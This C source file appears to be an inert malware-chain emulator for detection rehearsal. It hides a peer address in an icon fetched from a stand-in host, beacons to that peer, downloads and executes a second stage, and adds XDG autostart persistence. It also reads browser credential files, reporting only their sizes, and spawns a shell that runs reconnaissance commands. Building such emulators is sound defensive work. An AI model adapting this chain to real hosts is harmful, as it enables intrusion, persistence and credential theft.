/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The steps of the inert imitation. Owns: the files it writes below $HOME/.cache/acme, and one in $HOME/.config/autostart.
 * Must not: open a socket by itself (loopback.c), keep or send what it reads, act on anything the peer says.
 */
#include "chain.h"
#include "loopback.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { HTTP_PORT = 80, PICTURE_MAX = 65536, HELPER_MAX = 4 * 1024 * 1024 };

void chain_wait_ms(long ms)
{
    nanosleep(&(struct timespec){.tv_sec = ms / 1000, .tv_nsec = ms % 1000 * 1000000}, NULL);
}

static int base64_value(char c)
{
    static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const char *at = c ? strchr(digits, c) : NULL;

    return at ? (int)(at - digits) : -1;
}

static void base64_decode(const char *text, size_t n, char *ret_out, size_t size)
{
    unsigned int bits = 0;
    int have = 0;
    size_t out = 0;

    for (size_t i = 0; i < n && out + 1 < size; i++) {
        int v = base64_value(text[i]);

        if (v < 0)
            break;
        bits = bits << 6 | (unsigned int)v;
        have += 6;
        if (have >= 8) {
            have -= 8;
            ret_out[out++] = (char)(bits >> have & 0xff);
        }
    }
    ret_out[out] = '\0';
}

/* GET of the picture; the number of bytes of the whole answer, or -1. */
static long fetch_picture(char *buf, size_t size)
{
    static const char request[] = "GET /icons/logo.ico HTTP/1.0\r\nHost: raw.codehost.test\r\n\r\n";
    char address[64];
    long got = -1;
    int fd;

    if (loopback_resolve("raw.codehost.test", address, sizeof(address)) != 0)
        return -1;
    fd = loopback_connect(address, HTTP_PORT);
    if (fd < 0)
        return -1;
    if (write_all(fd, request, sizeof(request) - 1) == 0)
        got = read_all(fd, buf, size);
    close(fd);
    return got;
}

int chain_find_peer(struct chain_peer *ret_peer)
{
    static char picture[PICTURE_MAX];
    char text[80];
    char *colon;
    long n = fetch_picture(picture, sizeof(picture));
    long dollar = n - 1;

    /* The text stands behind the picture's own end, after the last '$'. */
    while (dollar >= 0 && picture[dollar] != '$')
        dollar--;
    if (dollar < 0)
        return -1;
    base64_decode(picture + dollar + 1, (size_t)(n - dollar - 1), text, sizeof(text));
    colon = strchr(text, ':');
    if (!colon || (size_t)(colon - text) >= sizeof(ret_peer->address))
        return -1;
    *colon = '\0';
    memcpy(ret_peer->address, text, (size_t)(colon - text) + 1);
    ret_peer->port = (uint16_t)strtoul(colon + 1, NULL, 10);
    return 0;
}

void chain_contact(const struct chain_peer *peer, int times)
{
    static unsigned int seed = 23;

    for (int i = 0; i < times; i++) {
        char line[64];
        int fd = loopback_connect(peer->address, peer->port);

        if (fd >= 0) {
            if (write_all(fd, "HELLO\n", 6) == 0)
                (void)read_line(fd, line, sizeof(line));
            close(fd);
        }
        seed = seed * 1103515245u + 12345u;
        chain_wait_ms(2400 - 120 + (long)(seed >> 16) % 241);
    }
}

static long download(const struct chain_peer *peer, char *buf, size_t size)
{
    char line[64];
    long n = -1;
    int fd = loopback_connect(peer->address, peer->port);

    if (fd < 0)
        return -1;
    if (write_all(fd, "STAGE\n", 6) == 0 && read_line(fd, line, sizeof(line)) == 0)
        n = read_all(fd, buf, size);
    close(fd);
    return n;
}

static int store(const char *path, const char *buf, size_t n, mode_t mode)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
    int result;

    if (fd < 0)
        return -1;
    result = write_all(fd, buf, n);
    close(fd);
    return result;
}

static void home_path(const char *below, char *ret_path, size_t size)
{
    const char *home = getenv("HOME");

    snprintf(ret_path, size, "%s/%s", home ? home : "/nonexistent", below);
}

void chain_second_stage(const struct chain_peer *peer)
{
    char *buf = malloc(HELPER_MAX);
    char path[512];
    long n = buf ? download(peer, buf, HELPER_MAX) : -1;
    pid_t child;

    home_path(".cache", path, sizeof(path));
    mkdir(path, 0700);
    home_path(".cache/acme", path, sizeof(path));
    mkdir(path, 0700);
    home_path(".cache/acme/helper", path, sizeof(path));
    if (n <= 0 || store(path, buf, (size_t)n, 0755) != 0) {
        free(buf);
        return;
    }
    free(buf);
    chain_wait_ms(400);
    child = fork();
    if (child == 0) {
        execl(path, "helper", (char *)NULL);
        _exit(127);
    }
    if (child > 0)
        waitpid(child, NULL, 0);
}

/* Only the rehearsal's private root has such a home, no desktop ever starts there, and the root is gone with the run. */
void chain_persist(void)
{
    char path[512], helper[512], entry[640];
    int n;

    home_path(".cache/acme/helper", helper, sizeof(helper));
    n = snprintf(entry, sizeof(entry), "[Desktop Entry]\nType=Application\nName=Acme helper (rehearsal)\nExec=%s\n",
                 helper);
    home_path(".config", path, sizeof(path));
    mkdir(path, 0700);
    home_path(".config/autostart", path, sizeof(path));
    mkdir(path, 0700);
    home_path(".config/autostart/acme-softphone-helper.desktop", path, sizeof(path));
    if (n > 0 && (size_t)n < sizeof(entry))
        (void)store(path, entry, (size_t)n, 0644);
}

/* The size of a file, found by reading it to its end as a thief would; what was read is overwritten at once. */
static long read_through(const char *below)
{
    char path[512];
    char buf[4096];
    long total = 0;
    long got;
    int fd;

    home_path(below, path, sizeof(path));
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    while ((got = read(fd, buf, sizeof(buf))) > 0)
        total += got;
    explicit_bzero(buf, sizeof(buf));
    close(fd);
    return total;
}

void chain_collect(const struct chain_peer *peer)
{
    static const char *const files[] = {
        ".mozilla/firefox/fake0000.default-release/places.sqlite",
        ".mozilla/firefox/fake0000.default-release/logins.json",
        ".config/chromium/Default/Login Data",
        ".config/chromium/Default/History",
    };
    char report[256];
    char head[32];
    int n = 0;
    int fd;

    for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        n += snprintf(report + n, sizeof(report) - (size_t)n, "%zu %ld\n", i, read_through(files[i]));
        chain_wait_ms(120);
    }
    fd = loopback_connect(peer->address, peer->port);
    if (fd < 0)
        return;
    snprintf(head, sizeof(head), "POST %d\n", n);
    if (write_all(fd, head, strlen(head)) == 0 && write_all(fd, report, (size_t)n) == 0)
        (void)read_line(fd, head, sizeof(head));
    close(fd);
}

static void type_commands(int to)
{
    static const struct {
        long pause_ms;
        const char *line;
    } typed[] = {{700, "id\n"}, {1100, "hostname\n"}, {900, "ss -t\n"}, {600, "exit\n"}};

    for (size_t i = 0; i < sizeof(typed) / sizeof(typed[0]); i++) {
        chain_wait_ms(typed[i].pause_ms);
        if (write_all(to, typed[i].line, strlen(typed[i].line)) != 0)
            break;
    }
}

void chain_shell(void)
{
    int in[2];
    pid_t child;

    if (pipe2(in, O_CLOEXEC) != 0)
        return;
    child = fork();
    if (child == 0) {
        int null = open("/dev/null", O_WRONLY);

        dup2(in[0], 0);
        dup2(null, 1);
        dup2(null, 2);
        execl("/bin/sh", "sh", (char *)NULL);
        _exit(127);
    }
    close(in[0]);
    if (child > 0) {
        type_commands(in[1]);
        close(in[1]);
        waitpid(child, NULL, 0);
    } else {
        close(in[1]);
    }
}
